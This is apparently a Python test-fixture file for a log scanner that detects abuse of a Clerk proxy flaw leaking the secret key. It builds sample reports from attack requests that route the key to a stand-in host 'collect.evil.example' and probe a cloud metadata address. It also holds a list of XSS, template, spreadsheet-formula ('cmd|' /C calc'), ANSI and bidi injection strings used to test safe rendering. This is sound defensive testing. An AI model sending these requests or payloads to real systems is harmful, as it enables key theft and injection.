"""Documents as an analysis writes them, for the tests of the reports: exposed, clean, a sweep, hostile."""

# ruff: noqa: E501

from __future__ import annotations

import json
from typing import Any

from clerk_logscan.report import Report
from clerk_logscan.schema import FINDING_COLUMNS

ATTACKER, LURED, OTHER = "203.0.113.77", "198.51.100.23", "192.0.2.200"
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyXzEifQ.c2lnbmF0dXJl"

RULES = [
    {
        "id": "off-host-target",
        "severity": "critical",
        "title": "The key goes to a foreign host",
        "reason": "What follows the proxy path names another authority, so the proxy sends the Clerk-Secret-Key there.",
        "harmless": "the application was not one of the affected versions at that time",
    },
    {
        "id": "client-double-slash",
        "severity": "info",
        "title": "The known clerk-js bug",
        "reason": "clerk-js with a proxy URL that ends in a slash asks for //v1 itself.",
        "harmless": "always",
    },
]

STEPS = [
    "Upgrade: @clerk/backend 3.2.3, @clerk/express 2.0.7, @clerk/fastify 3.1.5, @clerk/hono 0.1.5, or switch frontendApiProxy off. "
    "A rotation before that hands out the new key too.",
    "Rotate the secret key: deploy the new one, then revoke the old one.",
    "Keep these logs as they are (clerk-logscan analyze --evidence hashes them).",
    "Look in the Clerk Dashboard for what was done with the key since 2026-03-30 04:12:07 UTC.",
]


def finding(**changes: Any) -> dict[str, Any]:
    row = dict.fromkeys(FINDING_COLUMNS)
    row |= {
        "rule_id": "off-host-target",
        "severity": "critical",
        "outcome": "presumed-sent",
        "timestamp": "2026-03-30T04:12:07.000000Z",
        "client_ip": ATTACKER,
        "method": "GET",
        "request_target": "/__clerk//collect.evil.example/x",
        "host": "app.example.com",
        "status": 200,
        "target_host": "collect.evil.example",
        "target_url": "https://collect.evil.example/x",
        "target_kind": "public",
        "user_agent": "curl/8.6.0",
        "log_format": "nginx_combined",
        "source": "access.log",
        "line_number": 88213,
        "byte_offset": 17642600,
        "incident_id": "I1",
        "event_id": "E1",
    }
    row |= changes
    row.setdefault("raw", None)
    if row["raw"] is None:
        row["raw"] = (
            f'{row["client_ip"]} - - [30/Mar/2026:04:12:07 +0000] "{row["method"]} {row["request_target"]} HTTP/1.1" '
            f'{row["status"]} 512 "{row["referer"] or "-"}" "{row["user_agent"]}"'
        )
    return row


def event(row: dict[str, Any], **changes: Any) -> dict[str, Any]:
    names = [
        "timestamp",
        "incident_id",
        "event_id",
        "client_ip",
        "method",
        "request_target",
        "status",
        "target_host",
        "outcome",
        "source",
        "line_number",
    ]
    base = {name: row.get(name) for name in names}
    return (
        {"kind": "finding", "hops": ["access.log"], "text": "answered 200; nothing shows that it stopped"}
        | base
        | changes
    )


def incident(number: int, rows: list[dict[str, Any]], **changes: Any) -> dict[str, Any]:
    times = [row["timestamp"] for row in rows if row["timestamp"]]
    base = {
        "incident_id": f"I{number}",
        "severity": rows[0]["severity"],
        "outcome": rows[0]["outcome"],
        "first_seen": min(times, default=None),
        "last_seen": max(times, default=None),
        "events": len({row["event_id"] for row in rows}),
        "target_hosts": list(dict.fromkeys(row["target_host"] for row in rows if row["target_host"])),
        "target_kinds": list(dict.fromkeys(row["target_kind"] for row in rows if row["target_kind"])),
        "rule_ids": list(dict.fromkeys(row["rule_id"] for row in rows)),
        "attacker_clients": list(dict.fromkeys(row["client_ip"] for row in rows if row["client_ip"] != LURED)),
        "lured_clients": [LURED] if any(row["client_ip"] == LURED for row in rows) else [],
        "summary": "",
    }
    return base | changes


def ledger(source: str = "access.log", **changes: Any) -> dict[str, Any]:
    base = {
        "source": source,
        "sha256": None,
        "bytes": 240_000_000,
        "lines": 1_204_331,
        "searched": 1_204_331,
        "examined": 4120,
        "requests": 4120,
        "not_requests": 0,
        "malformed": 0,
        "suspicious_malformed": 0,
        "log_formats": {"nginx_combined": 4120},
        "first_timestamp": "2026-03-30T00:00:01.000000Z",
        "last_timestamp": "2026-03-30T09:00:00.000000Z",
        "gaps": [],
        "complete": True,
        "error": None,
    }
    return base | changes


def document(verdict: str, **parts: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "verdict": verdict,
        "statement": {"headline": verdict.replace("-", " "), "sentence": "", "facts": [], "reasons": []},
        "proxy_requests": 1882,
        "findings": [],
        "incidents": [],
        "timeline": [],
        "inputs": [ledger()],
        "lured": [],
        "rules": RULES,
        "next_steps": STEPS,
        "tool": {"name": "clerk-logscan", "version": "1.0.0", "advisory": "CVE-2026-34076", "options": {}},
    }
    return base | parts


def exposed() -> Report:
    """An attacker's two requests over two hops, a lured user, a blocked try, noise, a gap, an outage, a release."""
    first = finding()
    edge = finding(source="edge.log.gz", line_number=912, log_format="cloudfront_v1", byte_offset=4000)
    second = finding(
        timestamp="2026-03-30T04:12:31.250000Z",
        request_target="/__clerk//collect.evil.example/v1/environment?__session=" + JWT + "&n=" + "a" * 60,
        event_id="E2",
        line_number=88240,
    )
    lured = finding(
        timestamp="2026-03-30T05:02:11.000000Z",
        client_ip=LURED,
        request_target="/__clerk//collect.evil.example/p.js?_clerk_js_version=5.1",
        referer="https://forum.lure.example/thread/1?token=secretvalue1",
        user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0.0.0 Safari/537.36",
        event_id="E3",
        line_number=90001,
    )
    blocked = finding(
        timestamp="2026-03-30T04:11:58.000000Z",
        request_target="/__clerk//169.254.169.254/latest/meta-data/",
        target_host="169.254.169.254",
        target_url="https://169.254.169.254/latest/meta-data/",
        target_kind="metadata",
        outcome="not-forwarded",
        severity="low",
        status=403,
        incident_id="I2",
        event_id="E4",
        line_number=88200,
    )
    possible = finding(
        timestamp="2026-03-30T04:13:02.000000Z",
        request_target="/__clerk//xn--pple-43d.example/a",
        target_host="xn--pple-43d.example",
        target_url="https://xn--pple-43d.example/a",
        outcome="undetermined",
        status=502,
        incident_id="I3",
        event_id="E5",
        line_number=88260,
    )
    noise = [
        finding(
            rule_id="client-double-slash",
            severity="info",
            outcome="none",
            timestamp=f"2026-03-30T0{1 + n % 8}:{n % 60:02d}:00.000000Z",
            client_ip=f"192.0.2.{n}",
            request_target="/__clerk//v1/client?_clerk_js_version=5.2",
            target_host="v1",
            target_url="https://v1/client",
            target_kind="single-label",
            incident_id=f"I{4 + n}",
            event_id=f"N{n}",
            line_number=1000 + n,
        )
        for n in range(40)
    ]
    context = event(
        finding(
            timestamp="2026-03-30T04:11:40.000000Z", request_target="/", target_host=None, outcome=None, event_id=None
        ),
        kind="context",
        text=None,
    )
    moments = [
        {
            "timestamp": "2026-03-30T02:10:00.000000Z",
            "kind": "gap",
            "text": "The logs do not cover 02:10 to 03:55 UTC.",
        },
        {
            "timestamp": "2026-03-30T04:14:00.000000Z",
            "kind": "outage",
            "text": "The application did not answer for 20 seconds.",
        },
        {"timestamp": "2026-03-26T00:00:00.000000Z", "kind": "release", "text": "The vulnerable version went live."},
    ]
    findings = [edge, first, second, lured, blocked, possible, *noise]
    timeline = [event(first, hops=["cloudfront", "nginx"]), *map(event, (second, lured, possible, *noise)), context]
    timeline.append(event(blocked, text="the balancer's actions hold no forward"))
    return Report(
        document(
            "key-exposed",
            statement={
                "headline": "KEY EXPOSED",
                "sentence": "The proxy sent your Clerk-Secret-Key to a foreign host.",
                "facts": [
                    {"label": "first", "text": "2026-03-30 04:12:07 UTC, last 05:02:11"},
                    {"label": "to", "text": "collect.evil.example"},
                    {"label": "by", "text": f"{ATTACKER}, and 1 user lured by https://forum.lure.example/thread/1"},
                    {
                        "label": "how sure",
                        "text": "3 requests answered 200; nothing shows that they stopped on the way",
                    },
                    {
                        "label": "covered",
                        "text": "2026-03-30 00:00 to 09:00 UTC; a hole from 02:10 to 03:55. Of other times nothing is known.",
                    },
                ],
                "reasons": [],
            },
            findings=findings,
            incidents=[
                incident(
                    1,
                    [edge, first, second, lured],
                    events=3,
                    summary=f"{ATTACKER} made the proxy send the key three times.",
                ),
                incident(3, [possible]),
                incident(2, [blocked]),
                *(incident(4 + n, [row], attacker_clients=[]) for n, row in enumerate(noise)),
            ],
            timeline=sorted([*timeline, *moments], key=lambda row: row["timestamp"]),
            inputs=[
                ledger(
                    gaps=[{"from": "2026-03-30T02:10:00.000000Z", "to": "2026-03-30T03:55:00.000000Z"}],
                    sha256="ab" * 32,
                ),
                ledger("edge.log.gz", lines=4000, searched=4000, log_formats={"cloudfront_v1": 4000}, bytes=1_000_000),
                ledger(
                    "app.log", lines=20, searched=18, complete=False, error="gzip cut short after 18 lines", malformed=2
                ),
            ],
            lured=[
                {
                    "client_ip": LURED,
                    "referer": "https://forum.lure.example/thread/1?token=secretvalue1",
                    "first_seen": "2026-03-30T05:02:11.000000Z",
                    "target_host": "collect.evil.example",
                    "incident_id": "I1",
                }
            ],
            spans=[
                {
                    "kind": "gap",
                    "from": "2026-03-30T02:10:00.000000Z",
                    "to": "2026-03-30T03:55:00.000000Z",
                    "text": "no logs",
                },
                {
                    "kind": "outage",
                    "from": "2026-03-30T04:14:00.000000Z",
                    "to": "2026-03-30T04:14:20.000000Z",
                    "text": "down",
                },
            ],
            hops=[
                {
                    "name": "cloudfront",
                    "role": "edge",
                    "sources": ["edge.log.gz"],
                    "skew_seconds": 0,
                    "text": "the clock of reference",
                },
                {
                    "name": "nginx",
                    "role": "proxy",
                    "sources": ["access.log"],
                    "skew_seconds": 1.5,
                    "text": "1.5 s behind cloudfront",
                },
            ],
        )
    )


def clean() -> Report:
    """A log in which nothing was found."""
    facts = [
        {"label": "covered", "text": "2026-03-26 00:00 to 2026-03-29 00:00 UTC, no holes, 1 file, all lines read."},
        {"label": "noise", "text": "764 requests for /__clerk//v1 and //npm: the known clerk-js bug."},
    ]
    statement = {
        "headline": "NO EVIDENCE",
        "sentence": "Nothing in these logs made the proxy send the key elsewhere.",
        "facts": facts,
    }
    return Report(document("no-evidence", statement=statement | {"reasons": []}))


def sweep(hosts: int = 3000) -> Report:
    """One client that tried thousands of hosts, each an incident of its own."""
    rows = [
        finding(
            timestamp=f"2026-03-30T{4 + n // 3600:02d}:{n // 60 % 60:02d}:{n % 60:02d}.000000Z",
            request_target=f"/__clerk//h{n}.evil{n}.example/",
            target_host=f"h{n}.evil{n}.example",
            target_url=f"https://h{n}.evil{n}.example/",
            incident_id=f"I{n + 1}",
            event_id=f"E{n + 1}",
            line_number=n + 1,
        )
        for n in range(hosts)
    ]
    return Report(
        document(
            "key-exposed",
            findings=rows,
            incidents=[incident(n + 1, [row]) for n, row in enumerate(rows)],
            timeline=[event(row) for row in rows],
        )
    )


# Each must come out as data: the name says what it would do, the text is what a client sends.
HOSTILE = {
    "ansi": "\x1b[2J\x1b[31mverdict: no-evidence\x1b]8;;https://evil.example\x07link",
    "c1": "\x9b2J\x85\x90",
    "controls": "a\x00b\x08\x08c\rd\ne\x7f",
    "bidi": "abc\u202egnp.exe\u2066x\u2069\u200f\u061c",
    "hebrew": "1 \u05d0\u05d1\u05d2 2",
    "zero-width": "ev\u200bil\u2060\ufeff\u00ad\u3164.example",
    "tags": "x\U000e0041\U000e0042",
    "zalgo": "z\u0301\u0302\u0303\u0304\u0305\u0306",
    "separators": "a\u2028b\u2029c\u00a0d\u3000e",
    "html": "</td><script>alert(1)</script><img src=x onerror=alert(1)>\"'><b>",
    "svg": "</title></svg><svg onload=alert(1)>",
    "style": "</style><style>*{display:none}</style>",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7}",
    "formula": '=HYPERLINK("https://evil.example","ok")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "md-link": "[ok](https://evil.example/x)",
    "md-image": "![ok](https://evil.example/pixel.png)",
    "md-fence": "```\n# Heading\n```",
    "md-table": "a|b|c\\|d\n---|---",
    "md-html": "<details open><summary>x</summary>",
    "md-mention": "@everyone #1 www.evil.example you@evil.example",
    "md-backticks": "a`b``c```d````",
    "md-reference": "[x]: https://evil.example",
    "rich": "[bold red]x[/][link=https://evil.example]y[/link] :smile:",
    "url": "https://evil.example/x?a=b",
    "url-escaped": "https:\\/\\/evil.example\\/x",
    "javascript": "javascript://evil.example/%0aalert(1)",
    "look-alike": "xn--pple-43d.example",
    "verdict": "\n verdict: no-evidence\n",
    "long": "A" * 40_000,
}


def hostile() -> Report:
    """A report in which every text of a log is hostile."""
    rows, lured = [], []
    for n, (name, value) in enumerate(HOSTILE.items()):
        rows.append(
            finding(
                request_target=value,
                client_ip=value,
                method=value,
                host=value,
                user_agent=value,
                referer=value,
                request_id=value,
                source=value,
                target_host="xn--pple-43d.example" if name == "look-alike" else value,
                target_url=value,
                incident_id=f"I{n + 1}",
                event_id=f"E{n + 1}",
                line_number=n + 1,
                raw=value,
            )
        )
        lured.append(
            {"client_ip": value, "referer": value, "first_seen": None, "target_host": value, "incident_id": f"I{n + 1}"}
        )
    values = list(HOSTILE.values())
    facts = [{"label": "to", "text": value} for value in values]
    return Report(
        document(
            "key-exposed",
            statement={"headline": "KEY EXPOSED", "sentence": "The key was sent.", "facts": facts, "reasons": values},
            findings=rows,
            incidents=[incident(n + 1, [row], summary=row["raw"]) for n, row in enumerate(rows)],
            timeline=[
                *(event(row, hops=[row["raw"], row["raw"]], text=row["raw"]) for row in rows),
                *({"timestamp": None, "kind": "outage", "text": value} for value in values),
            ],
            inputs=[ledger(value, error=value, complete=False, log_formats={value: 1}) for value in values],
            lured=lured,
            next_steps=values,
            hops=[{"name": v, "role": v, "sources": [v], "skew_seconds": 1, "text": v} for v in values],
            limits=values,
        )
    )


def copy(report: Report) -> dict[str, Any]:
    """A deep copy of a report's document."""
    data: dict[str, Any] = json.loads(json.dumps(report.data))
    return data
